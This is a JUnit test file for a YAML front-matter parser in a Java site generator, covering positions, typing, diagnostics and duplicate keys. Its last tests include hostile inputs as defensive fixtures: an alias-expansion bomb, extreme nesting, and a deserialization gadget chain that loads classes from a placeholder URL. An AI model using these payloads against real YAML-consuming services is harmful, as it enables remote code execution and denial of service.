package dev.rounds.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.rounds.diagnostic.Diagnostic;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class YamlParserTest {
    private static final Path FILE = Path.of("content/posts/x.md");

    private static YamlNode.Mapping mapping(String text, int firstLine) {
        YamlParser.Result result = YamlParser.parse(FILE, text, firstLine);
        assertThat(result.errors()).isEmpty();
        return (YamlNode.Mapping) result.node().orElseThrow();
    }

    @Test
    void positionsAreOneBasedAndOffsetByTheFirstLine() {
        YamlNode.Mapping root = mapping("title: Hello\ndate:   2026-01-05\ntags:\n  - a\n  - b\n", 2);
        assertThat(root.line()).isEqualTo(2);
        assertThat(root.column()).isEqualTo(1);
        YamlNode title = root.get("title");
        assertThat(title.line()).isEqualTo(2);
        assertThat(title.column()).isEqualTo(8);
        YamlNode date = root.get("date");
        assertThat(date.line()).isEqualTo(3);
        assertThat(date.column()).isEqualTo(9);
        YamlNode.Sequence tags = (YamlNode.Sequence) root.get("tags");
        assertThat(tags.items().get(1).line()).isEqualTo(6);
        assertThat(tags.items().get(1).column()).isEqualTo(5);
        YamlNode.Field field = root.fields().get("date");
        assertThat(field.keyLine()).isEqualTo(3);
        assertThat(field.keyColumn()).isEqualTo(1);
    }

    @Test
    void firstLineOneIsTheFilesFirstLine() {
        YamlNode.Mapping root = mapping("a: 1\nb: 2\n", 1);
        assertThat(root.get("b").line()).isEqualTo(2);
    }

    @Test
    void scalarsKeepTheirTextAsWritten() {
        YamlNode.Mapping root = mapping("title: No\nreg: 7012345\ndate: 2026-06-30\nzip: 01234\nv: 1.10\nq: \"yes\"\n", 1);
        assertThat(((YamlNode.Scalar) root.get("title")).text()).isEqualTo("No");
        assertThat(((YamlNode.Scalar) root.get("reg")).text()).isEqualTo("7012345");
        assertThat(((YamlNode.Scalar) root.get("date")).text()).isEqualTo("2026-06-30");
        assertThat(((YamlNode.Scalar) root.get("zip")).text()).isEqualTo("01234");
        assertThat(((YamlNode.Scalar) root.get("v")).text()).isEqualTo("1.10");
        assertThat(((YamlNode.Scalar) root.get("q")).quoted()).isTrue();
    }

    @Test
    void fieldReaderStringTakesAnyScalarAsText() {
        YamlNode.Mapping root = mapping("title: No\nregistration: 7012345\nflag: true\nempty:\n", 1);
        List<Diagnostic> diagnostics = new ArrayList<>();
        FieldReader fields = new FieldReader(FILE, root, diagnostics);
        assertThat(fields.string("title")).contains("No");
        assertThat(fields.string("registration")).contains("7012345");
        assertThat(fields.string("flag")).contains("true");
        assertThat(fields.string("empty")).isEmpty();
        assertThat(fields.string("missing")).isEmpty();
        assertThat(diagnostics).isEmpty();
    }

    @Test
    void fieldReaderReportsWrongTypesAtTheValue() {
        YamlNode.Mapping root = mapping("title: T\ntags: {a: 1}\ndraft: maybe\npaginate: 0\n", 2);
        List<Diagnostic> diagnostics = new ArrayList<>();
        FieldReader fields = new FieldReader(FILE, root, diagnostics);
        assertThat(fields.stringList("tags")).isEmpty();
        assertThat(fields.bool("draft")).isEmpty();
        assertThat(fields.positiveInt("paginate")).isEmpty();
        assertThat(diagnostics).extracting(d -> d.line() + ":" + d.column())
                .containsExactly("3:7", "4:8", "5:11");
        assertThat(diagnostics).allMatch(Diagnostic::isError);
    }

    @Test
    void fieldReaderReadsBooleansAndLists() {
        YamlNode.Mapping root = mapping("a: yes\nb: false\nc: [x, 2]\nd: single\n", 1);
        List<Diagnostic> diagnostics = new ArrayList<>();
        FieldReader fields = new FieldReader(FILE, root, diagnostics);
        assertThat(fields.bool("a")).contains(true);
        assertThat(fields.bool("b")).contains(false);
        assertThat(fields.stringList("c")).containsExactly("x", "2");
        assertThat(fields.stringList("d")).containsExactly("single");
        assertThat(diagnostics).isEmpty();
    }

    @Test
    void unknownKeysAreWarningsAtTheKeyWithASuggestion() {
        YamlNode.Mapping root = mapping("title: T\nbaseUrl: x\n", 1);
        List<Diagnostic> diagnostics = new ArrayList<>();
        new FieldReader(FILE, root, diagnostics).warnUnknown(java.util.Set.of("title", "baseURL"), "setting");
        assertThat(diagnostics).singleElement().satisfies(d -> {
            assertThat(d.isError()).isFalse();
            assertThat(d.line()).isEqualTo(2);
            assertThat(d.column()).isEqualTo(1);
            assertThat(d.message()).contains("baseUrl").contains("did you mean 'baseURL'");
        });
    }

    @Test
    void toPlainGivesTemplatesTypedValues() {
        YamlNode.Mapping root = mapping("s: text\nn: 42\nf: 1.5\nb: true\nnull1: ~\nlist: [a, 1]\nmap: {k: v}\nq: \"42\"\n", 1);
        @SuppressWarnings("unchecked")
        Map<String, Object> plain = (Map<String, Object>) root.toPlain();
        assertThat(plain).containsEntry("s", "text").containsEntry("n", 42L).containsEntry("f", 1.5).containsEntry("b", true)
                .containsEntry("null1", null).containsEntry("list", List.of("a", 1L)).containsEntry("map", Map.of("k", "v"))
                .containsEntry("q", "42");
    }

    @Test
    void syntaxErrorIsPositionedInTheFile() {
        YamlParser.Result result = YamlParser.parse(FILE, "title: Good\nsummary: a: b\n", 2);
        assertThat(result.ok()).isFalse();
        assertThat(result.errors()).singleElement().satisfies(d -> {
            assertThat(d.line()).isEqualTo(3);
            assertThat(d.column()).isEqualTo(11);
            assertThat(d.message()).startsWith("invalid YAML").contains("mapping values are not allowed");
        });
    }

    @Test
    void duplicateKeyIsAnErrorAtTheSecondKey() {
        YamlParser.Result result = YamlParser.parse(FILE, "title: A\nother: 1\ntitle: B\n", 2);
        assertThat(result.errors()).singleElement().satisfies(d -> {
            assertThat(d.line()).isEqualTo(4);
            assertThat(d.column()).isEqualTo(1);
            assertThat(d.message()).contains("duplicate key 'title'").contains("line 2");
        });
    }

    @Test
    void duplicateKeyInANestedMappingIsAnError() {
        YamlParser.Result result = YamlParser.parse(FILE, "authors:\n  a:\n    name: X\n    name: Y\n", 1);
        assertThat(result.errors()).singleElement().satisfies(d -> assertThat(d.line()).isEqualTo(4));
    }

    @Test
    void emptyDocumentHasNoNode() {
        YamlParser.Result result = YamlParser.parse(FILE, "", 2);
        assertThat(result.ok()).isTrue();
        assertThat(result.node()).isEmpty();
        assertThat(YamlParser.parse(FILE, "# only a comment\n", 2).node()).isEmpty();
    }

    @Test
    void aliasBombFailsFast() {
        StringBuilder bomb = new StringBuilder("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char previous = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                bomb.append(i == 0 ? "" : ", ").append('*').append(previous);
            }
            bomb.append("]\n");
        }
        YamlParser.Result result = assertTimeoutPreemptively(Duration.ofSeconds(10), () -> YamlParser.parse(FILE, bomb.toString(), 1));
        assertThat(result.ok()).isFalse();
        assertThat(result.errors()).singleElement().satisfies(d -> assertThat(d.message()).contains("invalid YAML"));
    }

    @Test
    void fewAliasesAreFine() {
        YamlNode.Mapping root = mapping("base: &b {name: X}\ncopy: *b\n", 1);
        assertThat(root.get("copy")).isInstanceOf(YamlNode.Mapping.class);
    }

    @Test
    void deepNestingFailsFast() {
        String deep = "a: " + "[".repeat(5_000) + "]".repeat(5_000) + "\n";
        YamlParser.Result result = assertTimeoutPreemptively(Duration.ofSeconds(10), () -> YamlParser.parse(FILE, deep, 1));
        assertThat(result.ok()).isFalse();
    }

    @Test
    void tagsNeverInstantiateClasses() {
        YamlParser.Result result = YamlParser.parse(FILE, "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]\n", 1);
        // Composing only: either an error or plain nodes, never an object.
        result.node().ifPresent(node -> assertThat(node.toPlain()).isInstanceOf(Map.class));
    }
}
